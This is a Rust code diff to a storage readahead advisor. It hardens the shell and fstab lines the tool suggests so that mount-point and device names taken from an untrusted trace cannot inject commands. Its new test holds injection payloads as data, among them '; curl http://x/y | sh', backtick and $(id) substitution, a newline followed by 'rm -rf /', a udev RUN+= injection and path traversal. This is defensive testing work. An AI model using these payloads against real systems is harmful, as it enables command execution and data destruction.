@@ -3,6 +3,7 @@
 use flashscope_analysis::readahead::{
     Advice, Change, ErrorBar, Off, Predictor, Seen, Silent, TRIED_KIB, advise, recorded_knob, silent,
 };
+use flashscope_output::quote;
 use flashscope_readahead::PAGE_BYTES;
 use flashscope_trace::{Device, Trace};
 use serde_json::{Value, json};
@@ -224,12 +225,20 @@ struct Storage {
     weighed: bool,
     /// Source and target of UBIFS mounts.
     ubifs: Vec<(String, String)>,
+    /// Knobs of the trace whose names are none that /sys has: no line is offered for them.
+    odd: Vec<String>,
 }
 
 impl Storage {
     fn of(facts: &Value, devices: impl Iterator<Item = u32>) -> Storage {
-        let mut storage =
-            Storage { knobs: Vec::new(), shared: false, synchronous: false, weighed: false, ubifs: Vec::new() };
+        let mut storage = Storage {
+            knobs: Vec::new(),
+            shared: false,
+            synchronous: false,
+            weighed: false,
+            ubifs: Vec::new(),
+            odd: Vec::new(),
+        };
         let devices: std::collections::BTreeSet<String> = devices.map(|device| Device(device).to_string()).collect();
         let bdis: Vec<&str> =
             facts["bdi"].as_array().into_iter().flatten().filter_map(|bdi| bdi["name"].as_str()).collect();
@@ -254,7 +263,9 @@ impl Storage {
         }
         storage.knobs.sort();
         storage.knobs.dedup();
-        storage
+        // The trace may come from anybody; what is typed after its advice is typed by root.
+        let (knobs, odd) = storage.knobs.into_iter().partition(|name| quote::sysfs(name).is_some());
+        Storage { knobs, odd, ..storage }
     }
 }
 
@@ -285,12 +296,20 @@ fn risk(advice: &Advice, storage: &Storage) -> String {
     text
 }
 
+/// In place of a line to type.
+fn not_offered(what: &str, name: &str) -> String {
+    format!(
+        "not offered:  the trace names a {what} that cannot be typed safely: \"{}\"",
+        flashscope_report::visible(name)
+    )
+}
+
 /// What to type, now and for good.
 fn lines(advice: &Advice, storage: &Storage) -> Vec<String> {
     match advice.change {
         Change::SetReadahead { kib } => {
             let names = if storage.knobs.is_empty() { vec!["MAJOR:MINOR".to_owned()] } else { storage.knobs.clone() };
-            let mut lines = Vec::new();
+            let mut lines: Vec<String> = storage.odd.iter().map(|name| not_offered("knob", name)).collect();
             for name in names {
                 let knob = format!("/sys/class/bdi/{name}/read_ahead_kb");
                 lines.push(format!("now:          echo {kib} > {knob}"));
@@ -305,7 +324,13 @@ fn lines(advice: &Advice, storage: &Storage) -> Vec<String> {
             let option = if on { "bulk_read" } else { "no_bulk_read" };
             let mut lines = Vec::new();
             for (source, target) in &storage.ubifs {
-                lines.push(format!("now:          mount -o remount,{option} {target}"));
+                let typed =
+                    target.starts_with('/').then(|| Some((quote::shell(target)?, quote::fstab(target)?))).flatten();
+                let (Some((word, target)), Some(source)) = (typed, quote::fstab(source)) else {
+                    lines.push(not_offered("mount point", target));
+                    continue;
+                };
+                lines.push(format!("now:          mount -o remount,{option} {word}"));
                 // ubifs_show_options names no default: without the option is what no_bulk_read asks for.
                 lines.push(match on {
                     true => format!("fstab:        {source} {target} ubifs defaults,bulk_read 0 0"),
@@ -321,6 +346,7 @@ fn lines(advice: &Advice, storage: &Storage) -> Vec<String> {
                     .iter()
                     .map(|name| format!("now:          echo {kib} > /sys/class/bdi/{name}/read_ahead_kb")),
             );
+            lines.extend(storage.odd.iter().map(|name| not_offered("knob", name)));
             lines
         }
         Change::SquashfsBlock { bytes, .. } => {
@@ -395,6 +421,13 @@ mod tests {
         workload
     }
 
+    fn some_advice() -> Advice {
+        let mut workload = whole_file();
+        workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
+        workload.nodes.flash_pages = Some(2.0);
+        advise(&Predictor::new(&workload, Below::new(Kernel::V6_1)), 0, Off::default()).remove(0)
+    }
+
     #[test]
     fn bulk_read_comes_with_the_lines_to_type() {
         let facts = json!({
@@ -413,6 +446,47 @@ mod tests {
         assert!(words(" ubi0:root / ubifs defaults,bulk_read 0 0"), "{lines:?}");
         assert!(words("echo 0 > /sys/class/bdi/ubifs_0_0/read_ahead_kb"), "{lines:?}");
         assert!(evidence_of_change(advice).is_some_and(|text| text.starts_with("600 reads of flash for 200 pages")));
+    }
+
+    /// What stands where a shell would read it.
+    fn unquoted(line: &str) -> String {
+        line.split('\'').step_by(2).collect()
+    }
+
+    #[test]
+    fn names_of_a_trace_are_no_commands() {
+        let facts = |target: &str, bdi: &str| {
+            json!({
+                "mounts": [{"source": "ubi0:root", "target": target, "type": "ubifs", "device": "0:14"}],
+                "bdi": [{"name": bdi, "read_ahead_kb": 0}],
+            })
+        };
+        let of = |change: Change, facts: &Value| {
+            let advice = Advice { change, ..some_advice() };
+            lines(&advice, &Storage::of(facts, [14].into_iter()))
+        };
+        let attack = "; curl http://x/y | sh";
+        for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
+            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(&target, "ubifs_0_0"));
+            let mount = lines.iter().find(|line| line.contains("remount")).expect("a line");
+            assert!(!unquoted(mount).contains([';', '|', '`', '$']) && mount.contains(" '/mnt/"), "{mount}");
+            let fstab = lines.iter().find(|line| line.starts_with("fstab:")).expect("a line");
+            let fields = fstab.strip_prefix("fstab:").expect("its head").split_whitespace().count();
+            assert_eq!(fields, 6, "{fstab}");
+        }
+        for target in ["/mnt/a\nrm -rf /", "/mnt/\u{202e}x", "/mnt/\u{1b}[2J", "relative", ""] {
+            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(target, "ubifs_0_0"));
+            assert!(lines[0].starts_with("not offered:") && !lines[0].contains('\n'), "{lines:?}");
+            assert!(!lines.iter().any(|line| line.contains("remount")), "{lines:?}");
+        }
+        for bdi in [&format!("ubifs_{attack}"), "ubifs_\", RUN+=\"x", "ubifs_/../../../etc/x", "ubifs_*", "ubifs_a b"] {
+            for change in [Change::SetReadahead { kib: 64 }, Change::BulkRead { on: true, kib: 0 }] {
+                let lines = of(change, &facts("/", bdi));
+                let typed = || lines.iter().filter(|line| !line.starts_with("not offered:"));
+                assert!(lines.iter().any(|line| line.starts_with("not offered:  the trace names a knob")), "{lines:?}");
+                assert!(!typed().any(|line| line.contains(bdi)), "{lines:?}");
+            }
+        }
     }
 
     #[test]
